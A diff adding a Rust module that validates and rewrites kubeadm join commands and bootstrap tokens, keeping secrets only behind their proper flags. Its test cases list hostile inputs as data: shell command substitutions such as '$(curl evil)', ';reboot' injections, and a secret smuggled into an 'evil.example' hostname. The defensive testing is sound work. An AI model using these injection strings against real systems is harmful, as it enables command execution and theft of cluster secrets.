@@ -1,0 +1,260 @@
+//! The lines that scripts take from a phase, a join command and a token: read word by word, and written anew of what was read, so that
+//! nothing else stands in them, and a secret only behind the flag that it belongs to.
+
+use super::command::{Endpoint, InvalidJoin, pin};
+use crate::bootstrap_token::Token;
+use crate::name::shortened;
+use crate::output::{Output, Part};
+use crate::secret::{SecretId, Secrets};
+
+/// The name of the output in which a phase says how to join.
+pub const JOIN_COMMAND: &str = "join-command";
+/// The name of the output with a token alone.
+pub const TOKEN: &str = "token";
+
+/// A line that is not what its name says. Nothing of what it would show is repeated but the phase's own words.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum InvalidLine {
+    /// Other words than those of a join command.
+    #[error(
+        "it must be `kubeadm join HOST:PORT --token TOKEN`, and further --discovery-token-ca-cert-hash, --control-plane and --certificate-key"
+    )]
+    Join,
+    /// A flag, or another word.
+    #[error("`{0}` may not stand in a join command that a phase makes")]
+    Word(String),
+    /// A part of it.
+    #[error(transparent)]
+    Part(#[from] InvalidJoin),
+    /// A secret where none belongs.
+    #[error("a secret stands in it elsewhere than behind --token or --certificate-key")]
+    Secret,
+    /// A key.
+    #[error("the certificate key in it is not of letters and digits")]
+    Key,
+    /// Something else than a token.
+    #[error("it must be a bootstrap token and nothing else")]
+    Token,
+}
+
+/// An output as it may be shown: of a join command and a token what was read of them, in the words of kubeadm; any other as it is.
+///
+/// # Errors
+/// [`InvalidLine`] for a join command or a token that is none, and for a secret in it that does not belong there.
+pub fn rewritten(output: &Output, secrets: &Secrets) -> Result<Output, InvalidLine> {
+    let value = match output.name.as_str() {
+        JOIN_COMMAND => join(&output.value, secrets)?,
+        TOKEN => {
+            let mut words = words(&output.value)?.into_iter();
+            let token = words.next().and_then(|word| word.token(secrets)).ok_or(InvalidLine::Token)?;
+            if words.next().is_some() {
+                return Err(InvalidLine::Token);
+            }
+            token
+        }
+        _ => return Ok(output.clone()),
+    };
+    Ok(Output { value, ..output.clone() })
+}
+
+/// A word: text, and at most one secret behind it.
+#[derive(Debug, Default)]
+struct Word {
+    text: String,
+    secret: Option<SecretId>,
+}
+
+impl Word {
+    /// A word without a secret.
+    fn plain(&self) -> Result<&str, InvalidLine> {
+        if self.secret.is_none() { Ok(&self.text) } else { Err(InvalidLine::Secret) }
+    }
+
+    /// A token, in parts; none if it is not one.
+    fn token(&self, secrets: &Secrets) -> Option<Vec<Part>> {
+        let Some(secret) = &self.secret else {
+            return Token::parse(&self.text).is_some().then(|| vec![Part::Text(self.text.clone())]);
+        };
+        let half = std::str::from_utf8(secrets.resolve(secret)?).ok()?;
+        Token::of(self.text.strip_suffix('.')?, half)?;
+        Some(vec![Part::Text(self.text.clone()), Part::Secret(secret.clone())])
+    }
+
+    /// A certificate key, which a shell takes for one word.
+    fn key(self, secrets: &Secrets) -> Result<Part, InvalidLine> {
+        let is_key = |key: &[u8]| !key.is_empty() && key.iter().all(u8::is_ascii_alphanumeric);
+        match self.secret {
+            None if is_key(self.text.as_bytes()) => Ok(Part::Text(self.text)),
+            Some(id) if self.text.is_empty() && secrets.resolve(&id).is_some_and(is_key) => Ok(Part::Secret(id)),
+            _ => Err(InvalidLine::Key),
+        }
+    }
+}
+
+/// The words of a line, between blanks. There are no quotes: nothing in such a line needs them.
+fn words(value: &[Part]) -> Result<Vec<Word>, InvalidLine> {
+    let (mut words, mut last) = (Vec::new(), Word::default());
+    for part in value {
+        match part {
+            Part::Secret(_) if last.secret.is_some() => return Err(InvalidLine::Secret),
+            Part::Secret(id) => last.secret = Some(id.clone()),
+            Part::Text(text) => {
+                for (index, piece) in text.split(' ').enumerate() {
+                    if index > 0 {
+                        words.push(std::mem::take(&mut last));
+                    }
+                    if last.secret.is_some() && !piece.is_empty() {
+                        return Err(InvalidLine::Secret);
+                    }
+                    last.text.push_str(piece);
+                }
+            }
+        }
+    }
+    words.push(last);
+    words.retain(|word| !word.text.is_empty() || word.secret.is_some());
+    Ok(words)
+}
+
+/// A join command, as `kubeadm token create --print-join-command` has it (`app/cmd/util/join.go`).
+fn join(value: &[Part], secrets: &Secrets) -> Result<Vec<Part>, InvalidLine> {
+    let mut words = words(value)?.into_iter();
+    let mut next = || words.next().ok_or(InvalidLine::Join);
+    if next()?.plain()? != "kubeadm" || next()?.plain()? != "join" {
+        return Err(InvalidLine::Join);
+    }
+    let endpoint = Endpoint::parse(next()?.plain()?)?;
+    let (mut token, mut pins, mut key, mut role) = (None, Vec::new(), None, "");
+    while let Ok(flag) = next() {
+        match flag.plain()? {
+            "--token" if token.is_none() => {
+                token = Some(next()?.token(secrets).ok_or(InvalidLine::Part(InvalidJoin::Token("--token")))?);
+            }
+            "--discovery-token-ca-cert-hash" => pins.push(pin(next()?.plain()?)?),
+            "--control-plane" => role = " --control-plane",
+            "--certificate-key" if key.is_none() => key = Some(next()?.key(secrets)?),
+            other => return Err(InvalidLine::Word(named(other))),
+        }
+    }
+    let mut line = vec![Part::Text(format!("kubeadm join {endpoint} --token "))];
+    line.extend(token.ok_or(InvalidLine::Join)?);
+    let pins: String = pins.iter().map(|pin| format!(" --discovery-token-ca-cert-hash {pin}")).collect();
+    line.push(Part::Text(format!("{pins}{role}")));
+    if let Some(key) = key {
+        line.extend([Part::Text(" --certificate-key ".to_owned()), key]);
+    }
+    // kubeadm's own line ends with a blank if nothing comes behind the hashes.
+    if matches!(value.last(), Some(Part::Text(text)) if text.ends_with(' ')) {
+        line.push(Part::Text(" ".to_owned()));
+    }
+    Ok(line)
+}
+
+/// A word that does not belong there, of a flag its name alone.
+fn named(word: &str) -> String {
+    shortened(word.split('=').next().unwrap_or(word)).into_owned()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{InvalidLine, rewritten};
+    use crate::name::Namespace;
+    use crate::output::{Moment, Output, Part};
+    use crate::secret::{Home, Origin, SecretId, Secrets};
+
+    const HASH: &str = "sha256:aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa";
+
+    /// A line in which `{n}` stands for the nth secret: a half of a token, a key, and what a shell would run.
+    fn line(name: &str, text: &str) -> (Output, Secrets) {
+        let mut secrets = Secrets::default();
+        let home = Home { namespace: Namespace::parse("kube-system").ok(), of_type: "bootstrap.kubernetes.io/token".to_owned() };
+        for value in ["0123456789abcdef", "fedcba98", "`$(id)`;abcdefg"] {
+            secrets.hide(value.as_bytes(), Origin::Given(home.clone()));
+        }
+        let mut value = Vec::new();
+        let mut rest = text;
+        while let Some((before, behind)) = rest.split_once('{') {
+            let (number, behind) = behind.split_once('}').unwrap();
+            value.extend([Part::Text(before.to_owned()), Part::Secret(SecretId::named(&format!("s{number}")))]);
+            rest = behind;
+        }
+        value.push(Part::Text(rest.to_owned()));
+        (Output { name: name.to_owned(), when: Moment::After, value }, secrets)
+    }
+
+    fn told(output: &Output) -> String {
+        let part = |part: &Part| match part {
+            Part::Text(text) => text.clone(),
+            Part::Secret(id) => id.as_str().replace('s', "{") + "}",
+        };
+        output.value.iter().map(part).collect()
+    }
+
+    #[test]
+    fn a_join_command_is_written_anew() {
+        for (text, expected) in [
+            (format!("kubeadm join a:1 --token abcdef.{{1}} --discovery-token-ca-cert-hash {HASH} "), None),
+            (
+                format!(
+                    "kubeadm join [::1]:1 --token abcdef.{{1}} --discovery-token-ca-cert-hash {HASH} --control-plane --certificate-key {{2}}"
+                ),
+                None,
+            ),
+            ("kubeadm join a:1 --token abcdef.{1}".to_owned(), None),
+            (
+                "kubeadm  join a:1   --control-plane --token abcdef.{1}".to_owned(),
+                Some("kubeadm join a:1 --token abcdef.{1} --control-plane"),
+            ),
+            ("kubeadm join a:1 --token abcdef.0123456789abcdef".to_owned(), None),
+        ] {
+            let (output, secrets) = line("join-command", &text);
+            let found = rewritten(&output, &secrets).unwrap_or_else(|error| panic!("{text}: {error}"));
+            assert_eq!(told(&found), expected.unwrap_or(&text), "{text}");
+        }
+    }
+
+    #[test]
+    fn what_is_no_join_command_is_refused() {
+        use InvalidLine::{Join, Key, Part, Secret, Token, Word};
+        for (name, text, is_expected) in [
+            (
+                "join-command",
+                "kubeadm join {1}.evil.example:6443 --token abcdef.{1}",
+                (|e| *e == Secret) as fn(&InvalidLine) -> bool,
+            ),
+            ("join-command", "kubeadm join x{1}:6443 --token abcdef.0123456789abcdef", |e| *e == Secret),
+            ("join-command", "kubeadm join a:1 --token abcdef.{1}.evil", |e| *e == Secret),
+            ("join-command", "kubeadm join a:1 --token abcdef.{1}{2}", |e| *e == Secret),
+            ("join-command", "kubeadm join a:1 --token abcdef.{1} --discovery-token-ca-cert-hash {1}", |e| *e == Secret),
+            ("join-command", "kubeadm join a:1 --token abcdef.{1} --{1}", |e| *e == Secret),
+            ("join-command", "{1} join a:1 --token abcdef.{1}", |e| *e == Secret),
+            ("join-command", "kubeadm join a:1 --token abcdef.{2}", |e| matches!(e, Part(_))),
+            ("join-command", "kubeadm join a:1 --token abcdef.{3}", |e| matches!(e, Part(_))),
+            ("join-command", "kubeadm join a:1 --token abcdef.{9}", |e| matches!(e, Part(_))),
+            ("join-command", "kubeadm join $(curl${IFS}evil):1 --token abcdef.{1}", |e| matches!(e, Part(_) | Word(_) | Secret)),
+            ("join-command", "kubeadm join a:1 --token abcdef.{1};reboot", |e| *e == Secret),
+            ("join-command", "kubeadm join a:1 --token abcdef.{1} ; reboot", |e| matches!(e, Word(_))),
+            ("join-command", "kubeadm join a:1 --token abcdef.{1}\nreboot", |e| *e == Secret),
+            ("join-command", "kubeadm join a:1 --token abcdef.{1} --config=/x", |e| *e == Word("--config".to_owned())),
+            ("join-command", "kubeadm join a:1 --token abcdef.{1} --discovery-token-unsafe-skip-ca-verification", |e| {
+                matches!(e, Word(_))
+            }),
+            ("join-command", "kubeadm join a:1 --token abcdef.{1} --token abcdef.{1}", |e| matches!(e, Word(_))),
+            ("join-command", "kubeadm join a:1 --token abcdef.{1} --certificate-key {3}", |e| *e == Key),
+            ("join-command", "kubeadm join a:1 --token abcdef.{1} --certificate-key x{2}", |e| *e == Key),
+            ("join-command", "kubeadm join a --token abcdef.{1}", |e| matches!(e, Part(_))),
+            ("join-command", "$(curl evil) kubeadm join a:1 --token abcdef.{1}", |e| *e == Join),
+            ("join-command", "kubeadm join a:1", |e| *e == Join),
+            ("join-command", "", |e| *e == Join),
+            ("token", "$(curl evil)", |e| *e == Token),
+            ("token", "abcdef.{1} ; reboot", |e| *e == Token),
+            ("token", "abcdef.{3}", |e| *e == Token),
+        ] {
+            // `${IFS}` is no secret.
+            let (output, secrets) = line(name, &text.replace("${IFS}", "$IFS"));
+            let error = rewritten(&output, &secrets).expect_err(text);
+            assert!(is_expected(&error), "{text}: {error:?}");
+            assert!(!error.to_string().contains("0123456789"), "{error}");
+        }
+    }
+}
